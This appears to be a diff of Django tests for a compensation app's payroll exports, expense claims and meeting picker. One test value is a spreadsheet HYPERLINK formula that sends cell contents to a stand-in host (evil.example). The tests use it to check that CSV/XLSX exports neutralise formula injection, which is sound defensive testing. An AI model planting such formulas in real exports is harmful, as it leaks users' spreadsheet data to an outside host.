@@ -133,8 +133,8 @@ def test_export_csv_opens_in_russian_excel(client, people):
     assert response.content.startswith(b"\xef\xbb\xbf")
     rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
     assert rows[0][0] == "Хантер"
-    assert rows[1][7] == "10000,00"
-    assert rows[-1][3] == "Итого" and rows[-1][7] == "38000,00"
+    assert rows[1][11] == "10000,00"
+    assert rows[-1][0] == "Итого по всем листам" and rows[-1][11] == "38000,00"
 
 
 def test_export_xlsx_has_the_lines_and_the_total(client, people):
@@ -142,8 +142,9 @@ def test_export_xlsx_has_the_lines_and_the_total(client, people):
     response = client.get(reverse("compensation:statements"), {"month": MARCH, "export": "xlsx"})
     sheet = load_workbook(io.BytesIO(response.content)).active
     values = [row for row in sheet.iter_rows(values_only=True)]
-    assert values[-1][3] == "Итого"
-    assert float(values[-1][7]) == 38000.0
+    assert values[-2][3] == "Итого к выплате"
+    assert values[-1][0] == "Итого по всем листам"
+    assert float(values[-1][11]) == 38000.0
 
 
 FORMULA_NAME = '=HYPERLINK("http://evil.example/?"&A3&B3,"Открыть")'
@@ -175,8 +176,8 @@ def test_export_csv_writes_a_formula_looking_name_as_text_and_a_deduction_as_a_n
     ivanov_rows = [row for row in rows if row[0].endswith(FORMULA_NAME)]
     assert ivanov_rows and {row[0] for row in ivanov_rows} == {"'" + FORMULA_NAME}
     assert not [value for row in rows for value in row if value.startswith(("=", "+", "@", "\t", "\r"))]
-    [deduction] = [row for row in ivanov_rows if row[4] == "Корректировка: Штраф"]
-    assert deduction[7] == "-500,00"  # a number Russian Excel reads as one, not "'-500,00"
+    [deduction] = [row for row in ivanov_rows if row[8] == "Корректировка: Штраф"]
+    assert deduction[11] == "-500,00"  # a number Russian Excel reads as one, not "'-500,00"
 
 
 def test_export_xlsx_writes_a_formula_looking_name_as_text_and_a_deduction_as_a_number(
@@ -188,10 +189,11 @@ def test_export_xlsx_writes_a_formula_looking_name_as_text_and_a_deduction_as_a_
 
     cells = [cell for row in sheet.iter_rows() for cell in row]
     assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
-    names = {row[0].value for row in sheet.iter_rows(min_row=2) if row[0].value.endswith(FORMULA_NAME)}
+    first_cells = [row[0].value or "" for row in sheet.iter_rows(min_row=2)]
+    names = {value for value in first_cells if value.endswith(FORMULA_NAME)}
     assert names == {"'" + FORMULA_NAME}
-    [deduction] = [row for row in sheet.iter_rows(min_row=2) if row[4].value == "Корректировка: Штраф"]
-    assert deduction[7].data_type == "n" and deduction[7].value == -500
+    [deduction] = [row for row in sheet.iter_rows(min_row=2) if row[8].value == "Корректировка: Штраф"]
+    assert deduction[11].data_type == "n" and deduction[11].value == -500
 
 
 def test_scheme_page_shows_the_live_rates_and_only_the_head_changes_them(client, people):
@@ -199,6 +201,15 @@ def test_scheme_page_shows_the_live_rates_and_only_the_head_changes_them(client,
     page = text(client.get(reverse("compensation:scheme")))
     assert "10 000,00 ₽" in page and "5 %" in page
     assert client.post(reverse("compensation:scheme"), {}).status_code == 403
+
+
+def test_the_expense_form_offers_the_camera_for_the_receipt_and_a_number_keyboard(client, people):
+    client.force_login(people["ivanov"])
+    page = client.get(reverse("compensation:expenses")).content.decode()
+    receipt = re.search(r'<input[^>]*name="receipt"[^>]*>', page).group(0)
+    assert 'capture="environment"' in receipt and 'accept="image/*,application/pdf"' in receipt
+    amount = re.search(r'<input[^>]*name="amount"[^>]*>', page).group(0)
+    assert 'inputmode="decimal"' in amount
 
 
 def test_hunter_claims_an_expense_the_head_approves_part_and_it_is_paid_with_the_month(
@@ -483,3 +494,113 @@ def test_only_the_head_gets_the_scheme_form(client, people):
         assert 'name="effective_from"' not in text(client.get(reverse("compensation:scheme")))
         assert client.post(reverse("compensation:scheme"), SCHEME_POST).status_code == 403
     assert PaySchemeVersion.objects.count() == before
+
+
+# --- expense claims for meetings ----------------------------------------------------------------------
+
+
+def meeting_of(hunter, client_name: str, at):
+    from kpi.models import ActivityKind
+    from kpi.services import activity_log
+    from tests.deals.factories import make_client
+
+    return activity_log(
+        acting_user=hunter,
+        kind=ActivityKind.MEETING,
+        client=make_client(acting_user=hunter, name=client_name),
+        at=at,
+    )
+
+
+def receipt():
+    from django.core.files.uploadedfile import SimpleUploadedFile
+
+    return SimpleUploadedFile("chek.pdf", b"%PDF-1.4 taxi receipt", content_type="application/pdf")
+
+
+def test_an_expense_claimed_for_a_meeting_is_accepted(client, hunter, tmp_path, settings):
+    from django.utils import timezone
+
+    from compensation.models import Expense
+
+    settings.MEDIA_ROOT = tmp_path
+    meeting = meeting_of(hunter, "Ресторан «Сургут»", timezone.now())
+    client.force_login(hunter)
+
+    response = client.post(
+        reverse("compensation:expenses"),
+        {"amount": "850.00", "meeting": meeting.pk, "note": "Такси до ресторана", "receipt": receipt()},
+    )
+
+    assert response.status_code == 302
+    expense = Expense.objects.get()
+    assert (expense.meeting, expense.hunter, expense.amount) == (meeting, hunter, Decimal("850.00"))
+
+
+def test_an_expense_for_another_hunters_meeting_is_refused(client, hunter, other_hunter, tmp_path, settings):
+    from django.utils import timezone
+
+    from compensation.models import Expense
+
+    settings.MEDIA_ROOT = tmp_path
+    theirs = meeting_of(other_hunter, "Кафе «Чужое»", timezone.now())
+    client.force_login(hunter)
+
+    response = client.post(
+        reverse("compensation:expenses"),
+        {"amount": "850.00", "meeting": theirs.pk, "note": "Такси", "receipt": receipt()},
+    )
+
+    assert response.status_code == 400
+    assert "Выберите корректный вариант" in text(response)
+    assert not Expense.objects.exists()
+
+
+def test_the_meeting_picker_names_the_client_the_deal_and_the_local_time(client, hunter):
+    from datetime import datetime
+    from zoneinfo import ZoneInfo
+
+    from django.utils import timezone
+
+    from kpi.models import ActivityKind
+    from kpi.services import activity_log
+    from tests.deals.factories import make_client, make_deal
+
+    now = timezone.localtime()
+    # 14:30 in Yekaterinburg is 09:30 UTC: the picker shows the hunter's time.
+    at = datetime(now.year, now.month, now.day, 14, 30, tzinfo=ZoneInfo("Asia/Yekaterinburg"))
+    if at > now:
+        at -= timezone.timedelta(days=1)
+    lotus = make_client(acting_user=hunter, name="Салон «Лотос»")
+    deal = make_deal(acting_user=hunter, client=lotus, title="Поставка к весне")
+    activity_log(acting_user=hunter, kind=ActivityKind.MEETING, client=lotus, deal=deal, at=at)
+    meeting_of(hunter, "Кафе «Северное»", at)
+    client.force_login(hunter)
+
+    page = text(client.get(reverse("compensation:expenses")))
+
+    options = re.findall(r'<option value="\d+">(.*?)</option>', page)
+    # The moment first (a phone's closed dropdown shows its start), without the year of this year.
+    day = f"{at:%d.%m}" if at.year == now.year else f"{at:%d.%m.%Y}"
+    assert sorted(options) == [
+        f"{day} 14:30 — Кафе «Северное»",
+        f"{day} 14:30 — Салон «Лотос» — Поставка к весне (Выборка потенциальных клиентов)",
+    ]
+    assert "09:30" not in page and "Сделка №" not in page
+
+
+def test_the_meeting_picker_offers_the_latest_fifty_meetings(client, hunter):
+    from django.utils import timezone
+
+    from compensation.forms import ExpenseClaimForm
+
+    now = timezone.now()
+    meetings = [
+        meeting_of(hunter, f"Кафе №{number}", now - timezone.timedelta(minutes=number))
+        for number in range(52)
+    ]
+
+    form = ExpenseClaimForm(hunter=hunter)
+
+    offered = list(form.fields["meeting"].queryset)
+    assert offered == meetings[:50]
